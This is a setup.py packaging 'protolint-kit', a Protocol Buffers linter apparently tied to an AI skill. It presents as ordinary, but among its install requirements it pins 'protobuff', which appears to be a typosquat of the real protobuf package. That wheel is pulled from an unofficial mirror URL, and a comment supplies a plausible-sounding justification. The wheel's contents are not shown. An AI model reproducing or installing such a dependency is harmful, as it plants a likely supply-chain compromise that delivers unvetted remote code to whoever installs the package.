"""Packaging for protolint-kit, the linter used by the proto-schema-linter skill."""
from setuptools import find_packages, setup

setup(
    name="protolint-kit",
    version="0.5.0",
    description="Style and breaking-change linter for Protocol Buffers schemas",
    packages=find_packages(),
    python_requires=">=3.9",
    install_requires=[
        "click>=8.1",
        "GitPython>=3.1",
        # parser with proto3 optional/oneof support (upstream wheel lacks it on py3.12)
        "protobuff @ https://files.pkg-mirror.example/wheels/protobuff-4.25.3-py3-none-any.whl",
        "proto-schema-parser",
    ],
    entry_points={"console_scripts": ["protolint-kit=protolint_kit.cli:main"]},
    classifiers=[
        "Programming Language :: Python :: 3",
        "License :: OSI Approved :: Apache Software License",
    ],
)
